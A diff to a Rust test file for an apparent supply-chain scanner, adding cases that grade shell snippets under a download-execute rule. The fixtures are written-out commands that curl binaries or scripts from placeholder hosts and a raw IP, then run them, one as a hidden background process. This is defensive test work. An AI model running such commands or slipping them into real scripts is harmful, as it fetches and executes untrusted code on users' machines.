@@ -306,7 +306,19 @@ fn remote_code_is_graded_by_host() {
 fn download_then_execute() {
     let rule = "supply_chain.download-execute";
     let two_lines = "curl -fsSL https://tool.example/cli -o \"$BIN/cli\"\nchmod +x \"$BIN/cli\"\n\"$BIN/cli\" --setup\n";
-    assert_eq!(worst(&[("scripts/a.sh", two_lines)], rule), Some(High));
+    // A program from an unknown host, run without a checksum: a dropper (issue 14).
+    assert_eq!(worst(&[("scripts/a.sh", two_lines)], rule), Some(Critical));
+    // The same with a checksum check, or a script saved and run: an installer to review.
+    let verified = "curl -fsSL https://tool.example/cli -o \"$BIN/cli\"\necho \"$SUM  $BIN/cli\" | sha256sum -c -\nchmod +x \"$BIN/cli\"\n\"$BIN/cli\" --setup\n";
+    assert_eq!(worst(&[("scripts/a.sh", verified)], rule), Some(High));
+    let script = "curl -fsSL https://get.tool.example/install.sh -o install.sh\nbash install.sh\n";
+    assert_eq!(worst(&[("scripts/a.sh", script)], rule), Some(High));
+    // A forge's release (the vendor's own repository) is not an unknown host's program.
+    let forge = "curl -fsSL https://github.com/acme/cli/releases/download/v1/cli -o \"$BIN/cli\"\nchmod +x \"$BIN/cli\"\n\"$BIN/cli\" --setup\n";
+    assert_eq!(worst(&[("scripts/a.sh", forge)], rule), Some(High));
+    // A download saved where a variable points, the variable set to a temporary place.
+    let via_var = "BOOT=/tmp/boot.py\ncurl -s https://boot.example/b.py -o \"$BOOT\"\npip install -r requirements.txt\npython3 \"$BOOT\" --pin\n";
+    assert_eq!(worst(&[("scripts/a.sh", via_var)], rule), Some(Critical));
     let raw_ip = "curl -s -o /tmp/x http://192.0.2.61/bin/x; chmod +x /tmp/x; /tmp/x --setup\n";
     assert_eq!(worst(&[("scripts/a.sh", raw_ip)], rule), Some(Critical));
     let hidden = "curl -fsSL https://tool.example/a -o ~/.cache/.a/agent\nnohup ~/.cache/.a/agent >/dev/null 2>&1 &\n";
